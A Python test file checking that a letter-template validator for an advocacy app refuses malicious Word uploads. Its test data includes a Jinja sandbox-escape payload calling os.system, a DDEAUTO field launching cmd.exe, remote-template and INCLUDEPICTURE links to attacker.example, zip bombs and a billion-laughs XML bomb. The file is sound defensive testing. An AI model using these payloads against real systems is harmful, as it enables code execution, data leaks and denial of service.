"""validate() refuses every template that could harm a member, the server or the letter,
with a message an editor can act on, and accepts ordinary letters."""

from __future__ import annotations

import time
import zipfile

import pytest
from django.core.exceptions import ValidationError

from soroptimist_advocacy.letters import ALLOWED_VARIABLES, clean_template, render, validate

W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def refusal(template: bytes) -> str:
    """validate's messages for *template*, which it must refuse."""
    with pytest.raises(ValidationError) as caught:
        validate(template)
    return " | ".join(caught.value.messages)


def with_paragraph(template: bytes, xml: str, with_members, read_member) -> bytes:
    document = read_member(template, "word/document.xml")
    return with_members(template, {"word/document.xml": document.replace("<w:sectPr", xml + "<w:sectPr", 1)})


@pytest.fixture
def decompressions(monkeypatch):
    """Every ZipFile.open call (read() goes through it): decompression of any member."""
    calls = []
    real_open = zipfile.ZipFile.open

    def spy(self, name, *args, **kwargs):
        calls.append(name)
        return real_open(self, name, *args, **kwargs)

    monkeypatch.setattr(zipfile.ZipFile, "open", spy)
    return calls


# Acceptance


def test_the_default_template_is_accepted(default_template):
    validate(default_template)


def test_the_cleaned_default_template_is_accepted(default_template):
    validate(clean_template(default_template))


def test_an_ordinary_template_with_a_link_and_a_loop_over_recipients_is_accepted(
    template_with, with_members, read_member
):
    template = template_with(
        [
            "{%p for person in recipients %}",
            "{{ person.name|upper }}{% if not loop.last %},{% endif %}",
            "{%p endfor %}",
        ],
        header="{{ recipient.name }}",
        title="{{ campaign.title }}",
    )
    rels = read_member(template, "word/_rels/document.xml.rels").replace(
        "</Relationships>",
        '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
        'Target="https://www.soroptimistinternational.org/" TargetMode="External"/></Relationships>',
    )
    template = with_members(template, {"word/_rels/document.xml.rels": rels})
    link = f'<w:p {W_NS}><w:fldSimple w:instr=" HYPERLINK &quot;https://x.example&quot; "/></w:p>'
    template = with_paragraph(template, link, with_members, read_member)

    validate(template)


# The zip directory, judged before anything is decompressed


def test_a_file_that_is_not_a_zip_is_refused():
    assert "not a Word document" in refusal(b"%PDF-1.7 not a docx")


def test_a_zip_that_is_not_an_office_package_is_refused(with_members, default_template):
    assert "not a Word document" in refusal(with_members(default_template, {"[Content_Types].xml": None}))


def test_another_kind_of_office_document_is_refused_as_not_a_word_document(with_members, read_member, default_template):
    spreadsheet = read_member(default_template, "[Content_Types].xml").replace(
        "wordprocessingml.document.main+xml", "spreadsheetml.sheet.main+xml"
    )

    assert "not a Word document" in refusal(with_members(default_template, {"[Content_Types].xml": spreadsheet}))


def test_a_zip_with_too_many_parts_is_refused(with_members, default_template, decompressions):
    crowded = with_members(default_template, {f"word/media/extra{number}.txt": "x" for number in range(501)})
    decompressions.clear()

    assert "too many parts" in refusal(crowded)
    assert decompressions == []


def test_a_part_declaring_a_huge_size_is_refused_without_decompressing_it(
    default_template, with_declared_sizes, decompressions
):
    bomb = with_declared_sizes(default_template, "word/styles.xml", file_size=3_000_000_000)

    assert "part that is too large" in refusal(bomb)
    assert decompressions == []


def test_a_zip_bomb_is_refused_from_its_compression_ratio_without_decompressing(
    default_template, with_declared_sizes, decompressions
):
    bomb = with_declared_sizes(default_template, "word/styles.xml", file_size=10_000_000)  # ~12 kB compressed

    assert "would grow" in refusal(bomb)
    assert decompressions == []


def test_a_template_too_large_once_unpacked_is_refused(default_template, with_declared_sizes, decompressions):
    large = with_declared_sizes(default_template, "word/styles.xml", file_size=16_000_000, compress_size=1_000_000)
    large = with_declared_sizes(large, "word/theme/theme1.xml", file_size=16_000_000, compress_size=1_000_000)

    assert "too large once unpacked" in refusal(large)
    assert decompressions == []


# What the package carries


def test_macros_are_refused(default_template, with_members, read_member):
    types = read_member(default_template, "[Content_Types].xml").replace(
        "wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml"
    )
    with_macros = with_members(
        default_template, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0", "[Content_Types].xml": types}
    )

    assert "macros" in refusal(with_macros)


def test_a_remote_attached_template_is_refused(default_template, with_members):
    rels = (
        f'<Relationships xmlns="{RELS_NS}"><Relationship Id="rId1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="https://attacker.example/template.dotm" TargetMode="External"/></Relationships>'
    )

    message = refusal(with_members(default_template, {"word/_rels/settings.xml.rels": rels}))

    assert "outside file" in message and "attacker.example" in message


def test_a_linked_picture_is_refused(default_template, with_members, read_member):
    rels = read_member(default_template, "word/_rels/document.xml.rels").replace(
        "</Relationships>",
        '<Relationship Id="rId98" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
        'Target="file://///attacker.example/share/pixel.png" TargetMode="External"/></Relationships>',
    )

    assert "outside file" in refusal(with_members(default_template, {"word/_rels/document.xml.rels": rels}))


def test_ole_objects_are_refused(default_template, with_members):
    ole = with_members(default_template, {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"})

    assert "embedded objects" in refusal(ole)


def test_alt_chunks_are_refused(default_template, with_members, read_member):
    chunk = f'<w:altChunk {W_NS} xmlns:r="{R_NS}" r:id="rId77"/>'
    template = with_paragraph(default_template, chunk, with_members, read_member)

    assert "altChunk" in refusal(template)


def test_a_dde_field_split_across_runs_is_refused(default_template, with_members, read_member):
    field = (
        f'<w:p {W_NS}><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>'
        '<w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )

    assert "“DDEAUTO” field" in refusal(with_paragraph(default_template, field, with_members, read_member))


def test_an_includepicture_field_is_refused(default_template, with_members, read_member):
    field = f"<w:p {W_NS}><w:fldSimple w:instr=' INCLUDEPICTURE \"http://attacker.example/x.png\" \\d '/></w:p>"

    assert "“INCLUDEPICTURE” field" in refusal(with_paragraph(default_template, field, with_members, read_member))


def test_an_xml_bomb_is_refused_without_expanding_it(default_template, with_members, read_member):
    laughs = (
        '<!DOCTYPE lolz [<!ENTITY lol "lol">'
        + "".join(f'<!ENTITY lol{level} "{("&lol%s;" % (level - 1 or "")) * 10}">' for level in range(1, 10))
        + "]>"
    )
    document = read_member(default_template, "word/document.xml")
    bomb = document.replace("?>", "?>" + laughs, 1).replace("{{ date }}", "&lol9;")

    started = time.monotonic()
    assert "DOCTYPE" in refusal(with_members(default_template, {"word/document.xml": bomb}))
    assert time.monotonic() - started < 2


# The placeholders


def test_a_syntax_error_is_reported_with_where_it_is(template_with):
    message = refusal(template_with(["Dear Minister,", "Signed: {{ member.name }", "Thanks"]))

    assert "mistake in a placeholder in the letter's text" in message
    assert "Signed: {{ member.name }" in message


def test_unknown_placeholders_are_listed_with_the_allowed_ones(template_with):
    message = refusal(template_with(["{{ member.phone }} {{ favourite_colour }}", "{{ member.name }}"]))

    assert "favourite_colour, member.phone" in message
    assert all(name in message for name in ALLOWED_VARIABLES)


CODE_EXECUTION = "{{ cycler.__init__.__globals__.os.system('touch %s') }}"


@pytest.mark.parametrize("where", ["body", "title", "header"])
def test_code_execution_payloads_are_refused_and_never_run(template_with, tmp_path, where):
    target = tmp_path / "pwned"
    payload = CODE_EXECUTION % target
    template = template_with(
        [payload if where == "body" else "{{ member.name }}"],
        title=payload if where == "title" else None,
        header=payload if where == "header" else None,
    )

    refusal(template)
    with pytest.raises(Exception):  # noqa: B017 - rendering an unvalidated template fails in the sandbox
        render(template, {})

    assert not target.exists()


@pytest.mark.parametrize(
    "placeholder, refused",
    [
        ("{{ member.name|safe }}", "“safe” filter"),
        ("{{ member.name * 100000 }}", "arithmetic"),
        ("{{ 9 ** (9 ** 9) }}", "arithmetic"),
        ("{% macro m() %}x{% endmacro %}", "macros"),
        ("{% include 'other.xml' %}", "{% include %}"),
        ("{% set x = member.name %}", "{% set %}"),
        ("{% autoescape false %}{{ member.name }}{% endautoescape %}", "{% autoescape %}"),
        ("{{ member.name.upper() }}", "calling functions"),
        ("{{ body[0] }}", "square brackets"),
        ("{{ member.__class__ }}", "underscore"),
        (
            "{% for i in member.name %}{{ i }}{% endfor %}",
            "loops over anything but body, recipients or letter.sections",
        ),
        ("{{ member.name|join(attribute='__class__') }}", "named filter arguments"),
        ("{{ member.name|default(cycler) }}", "do not know: cycler"),
        ("{% if member.name > 'M' %}x{% endif %}", "comparisons"),
    ],
)
def test_constructs_beyond_a_letters_needs_are_refused(template_with, placeholder, refused):
    started = time.monotonic()
    assert refused in refusal(template_with([placeholder]))
    assert time.monotonic() - started < 5  # refused from the parse tree, never compiled or run


def test_a_block_that_would_break_the_document_structure_is_refused(template_with):
    template = template_with(["Before {% if member.email %}"], table=[["{% endif %} after"]])

    assert "starts and ends in different kinds of places" in refusal(template)


# Cost: bounded by the allowlist, then by the hard cap on every render


def test_loops_inside_loops_are_refused_before_any_render(template_with):
    nested = "{% for a in body %}{% for b in body %}{% for c in body %}{{ a }}{% endfor %}{% endfor %}{% endfor %}"

    assert "a loop inside another loop" in refusal(template_with([nested]))


def test_a_template_whose_longest_letter_passes_the_cap_is_refused(template_with, monkeypatch):
    from soroptimist_advocacy.letters import validation

    monkeypatch.setattr(validation, "MAX_LETTER_CHARACTERS", 50_000)

    message = refusal(template_with(["{% for p in body %}{{ p }}{% endfor %}"]))

    assert "too large" in message
